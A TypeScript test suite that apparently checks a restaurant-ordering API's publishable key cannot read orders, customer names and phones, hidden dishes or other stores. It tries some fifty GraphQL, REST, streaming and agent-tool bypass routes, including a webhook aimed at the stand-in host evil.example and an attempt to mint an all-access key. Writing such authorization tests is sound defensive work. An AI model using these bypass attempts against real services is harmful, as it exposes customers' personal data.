import { hash } from 'node:crypto';
import { describe, expect, test } from 'vitest';
import { openStream } from '../../support/streams.ts';
import { startApp } from '../support/app.ts';
import { smallMenu } from '../support/data.ts';

const app = await startApp({ mcp: { enabled: true, resultBytes: 65_536 } });
const store = await app.data.store({ id: 'baixa', contacts: { owner: 'Rui Contact' } });
const [dish] = smallMenu('Dish').items;
await app.data.menu(store, smallMenu('Former name'));
if (dish)
  await app.data.menu(store, {
    ...smallMenu('Dish'),
    items: [dish, { ...dish, externalId: 'x', ingredients: 'Hidden' }],
  });
await app.data.store({
  id: 'porto',
  name: { translations: { en: 'Porto Foreign' } },
  merchant: store.merchant ?? null,
});
const [order] = await app.data.orders(store, 3, { customerName: 'Ana Guest', customerPhone: '+351 912 345 678' });
const orderId = order?.id ?? '';

const key = await app.newKey({ name: 'page', publishable: true, permissions: [], storeIds: ['baixa'] });
const guest = { 'x-api-key': key };

/** What no response to a publishable key contains. */
const secrets = /Ana Guest|345.?678|Rui Contact|Former name|Hidden|Porto Foreign|PENDING/;

const query = (text: string, variables: object = {}) => app.graphql(text, variables, guest);
const get = (path: string, headers: Record<string, string> = {}) => app.get(path, { ...guest, ...headers });

async function stream(transport: 'sse' | 'websocket', text: string): Promise<{ readonly text: string }> {
  const opened = openStream(transport, { url: app.url, key }, { query: text });
  const result = await opened.next().catch((error: unknown) => ({ error }));
  opened.close();
  return {
    text: JSON.stringify(result, Object.getOwnPropertyNames(result).concat('errors', 'message', 'extensions', 'code')),
  };
}

const orders = 'orders { totalCount nodes { id status price { amount } customer { name phone } items } }';
const persisted = `{ store(id: "baixa") { ${orders} } }`;
const apq = { persistedQuery: { version: 1, sha256Hash: hash('sha256', persisted) } };
const cached = '{ store(id: "baixa") { menuRevision items { externalId ingredients } } }';

/** Each is a way to an order, a guest, another store or what guests do not see. */
const ways: Readonly<Record<string, () => Promise<unknown>>> = {
  'an order by its id': () => query(`{ order(id: "${orderId}") { id status customer { name phone } } }`),
  'orders under aliases': () =>
    query('{ a: store(id: "baixa") { b: orders { c: nodes { d: customer { e: name } } } } }'),
  'orders in a fragment': () =>
    query(`{ store(id: "baixa") { ...A } } fragment A on Store { ...B } fragment B on Store { ${orders} }`),
  'orders in an inline fragment': () => query(`{ store(id: "baixa") { ... { ... on Store { ${orders} } } } }`),
  'orders that are included by a variable': () =>
    query(`query ($yes: Boolean!) { store(id: "baixa") { id ... @include(if: $yes) { ${orders} } } }`, { yes: true }),
  'orders through the merchant': () => query(`{ merchants { nodes { stores { nodes { ${orders} } } } } }`),
  'orders through a dish': () =>
    query(`{ store(id: "baixa") { menus { categories { items { store { ${orders} } } } } } }`),
  'orders in another operation of the document': () =>
    app.post(
      '/graphql',
      { query: `query A { stores { totalCount } } query B { store(id: "baixa") { ${orders} } }`, operationName: 'B' },
      guest,
    ),
  'orders by GET': () => get(`/graphql?query=${encodeURIComponent(persisted)}`, { 'apollo-require-preflight': '1' }),
  'a filter that errs': () =>
    query('{ store(id: "baixa") { orders(filter: { customerName: "a" }, first: 9999) { totalCount } } }'),
  'suggestions for misspelt fields': () =>
    query(`{ ordr(id: "${orderId}") { custmer } store(id: "baixa") { ordersRevison } }`),
  'revisions of orders': () => query('{ store(id: "baixa") { ordersRevision orderEventsCursor } }'),
  'the payload of a mutation': () =>
    query(
      `mutation { markOrders(input: { orderIds: ["${orderId}"], isRead: true }) { orders { customer { name } } } }`,
    ),
  'a change of an order': () =>
    query(`mutation { changeOrderStatus(input: { orderId: "${orderId}", to: ACCEPTED }) { order { status } } }`),
  'a quote of a hidden dish': () =>
    query(
      '{ quoteOrder(input: { storeId: "baixa", lines: [{ itemExternalId: "x" }] }) { price { amount } lines { name { text } } problems { message } } }',
    ),
  'events of orders, by SSE': () =>
    stream('sse', 'subscription { orderEvents(storeId: "baixa") { order { customer { name } } } }'),
  'events of orders, by WebSocket': () =>
    stream('websocket', 'subscription { orderEvents(storeId: "baixa") { orderId status } }'),
  'orders in events of menus': () =>
    stream('sse', `subscription { menuEvents(storeId: "baixa") { store { ${orders} } } }`),
  'a query by WebSocket': () => stream('websocket', persisted),
  'a cursor of events of orders': async () => {
    const { body } = await app.graphql('{ store(id: "baixa") { orderEventsCursor } }');
    const after = body.data.store.orderEventsCursor;
    return stream('sse', `subscription { menuEvents(storeId: "baixa", after: "${after}") { kind cursor } }`);
  },
  'events of another store': () =>
    stream('websocket', 'subscription { menuEvents(storeId: "porto") { store { name { text } } } }'),
  'events of stores': () => stream('sse', 'subscription { storeEvents { store { name { text } contacts } } }'),
  'pages of events': () =>
    query('{ events { events { kind orderId status } } store(id: "baixa") { events { next } } }'),
  'the history': () =>
    query('{ store(id: "baixa") { menuHistory { nodes { keyName configuration { items { name { text } } } } } } }'),
  'a past configuration': () =>
    query('{ store(id: "baixa") { menuConfigurationAt(revision: 1) { items { name { text } } } } }'),
  'what changed': () => query('{ store(id: "baixa") { menuChanges(from: 1) { summary entities { name { text } } } } }'),
  diagnostics: () => query('{ store(id: "baixa") { menuDiagnostics { message } } }'),
  'dishes in no menu': () =>
    query('{ store(id: "baixa") { items { ingredients } item(externalId: "x") { ingredients } } }'),
  'dishes in no menu, through modifiers': () =>
    query(
      '{ store(id: "baixa") { menus { categories { items { modifierGroups { usedByItems { ingredients } } } } } } }',
    ),
  contacts: () => query('{ stores { nodes { contacts } } }'),
  'the key itself': () => query('{ viewer { id name scope { stores { id } } } }'),
  'other keys': () => query('{ apiKeys { nodes { id name } } }'),
  'a key of its own': () => query('mutation { createApiKey(input: { name: "x", all: true }) { secret } }'),
  'a webhook': () =>
    query(
      'mutation { createWebhook(input: { url: "https://evil.example/", storeId: "baixa", kinds: [ORDER_PLACED] }) { secret } }',
    ),
  'another store': () =>
    query('{ store(id: "porto") { id name { text } } stores(search: "Porto") { totalCount nodes { name { text } } } }'),
  'another store, through the merchant': () =>
    query('{ merchants { nodes { stores { totalCount nodes { name { text } } } } } }'),
  'another store, after its cursor': async () => {
    const { body } = await app.graphql('{ stores(first: 1) { pageInfo { startCursor } } }');
    return query('query ($after: String) { stores(after: $after) { nodes { name { text } } } }', {
      after: body.data.stores.pageInfo.startCursor,
    });
  },
  'a query that a secret key has persisted': async () => {
    await app.post('/graphql', { query: persisted, extensions: apq });
    return app.post('/graphql', { extensions: apq }, guest);
  },
  'an operation by its name': () =>
    app.post('/graphql', { documentId: 'getOrder', variables: { order_service_id: orderId } }, guest),
  'a response that a secret key has cached': async () => {
    expect((await app.graphql(cached)).text).toContain('Hidden');
    return query(cached);
  },
  'the routes of orders': async () => [
    await get(`/v1/orders/${orderId}`),
    await get('/v1/stores/baixa/orders/?customer_name=Ana'),
  ],
  'an ETag of orders': async () => {
    const etag = (await app.get('/v1/stores/baixa/orders/')).headers.get('etag') ?? '';
    const responses = [
      await get('/v1/stores/baixa/orders/', { 'if-none-match': etag }),
      await get(`/v1/orders/${orderId}`, { 'if-none-match': '*' }),
    ];
    expect(responses.map(({ status, headers }) => [status, headers.get('etag')])).toEqual([
      [403, null],
      [403, null],
    ]);
    return responses;
  },
  'routes of another store': async () => [
    await get('/v1/stores/porto'),
    await get('/v1/stores/porto/menu_configuration/'),
    await get('/v1/stores/'),
  ],
  'the routes for POS systems': async () => [
    await get('/pos/v1/events?wait=1'),
    await get('/pos/v1/stores/baixa/events?wait=1'),
    await app.post(`/pos/v1/orders/${orderId}/status`, { to: 'ACCEPTED' }, guest),
    await app.post('/pos/v1/stores/baixa/orders/mark', { order_ids: [orderId], is_read: true }, guest),
  ],
  'the cost of a search for a guest': () =>
    app.graphql(
      '{ store(id: "baixa") { orders(filter: { customerName: "Ana" }) { totalCount } } }',
      {},
      { ...guest, 'x-carte-cost': '1' },
    ),
  'the flat form': () => get('/v1/stores/baixa/menu_configuration/flat'),
  'the head of a response': async () => app.send('HEAD', `/v1/orders/${orderId}`, { headers: guest }),
  'tools for agents': async () => {
    const call = (name: string, args: object) =>
      app.post(
        '/mcp',
        { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name, arguments: args } },
        { ...guest, accept: 'application/json, text/event-stream' },
      );
    return [
      await call('getStore', { store_service_id: 'baixa' }),
      await call('getOrder', { order_service_id: orderId }),
    ];
  },
  'pages and metrics': async () => [await get('/metrics'), await get('/console'), await get('/menu')],
};

describe('A publishable key gets at no order, no guest and no other store by', () => {
  test.each(Object.entries(ways))('%s', async (_name, run) => {
    const responses = [await run()].flat() as { readonly text: string; readonly headers?: Headers }[];
    for (const { text, headers } of responses)
      expect(`${text} ${JSON.stringify([...(headers ?? [])])}`).not.toMatch(secrets);
  });

  test('the time or the statements of a refusal: it looks nothing up', async () => {
    for (const id of [orderId, 'unknown']) {
      const { statements } = await app.statements.during(async () => {
        await query(`{ order(id: "${id}") { id } }`);
        await get(`/v1/orders/${id}`);
        await query(`mutation { markOrders(input: { orderIds: ["${id}"] }) { orders { id } } }`);
      });
      expect(statements.filter(statement => !statement.includes('from api_key k'))).toEqual([]);
    }
  });

  test('nothing that a secret key would not show: the ways are right', async () => {
    const { text } = await app.graphql(persisted);
    expect(text).toMatch(secrets);
    expect((await app.get(`/v1/orders/${orderId}`)).text).toMatch(secrets);
    expect((await app.graphql('{ order(id: "unknown") { id } }')).status).toBe(200);
  });
});
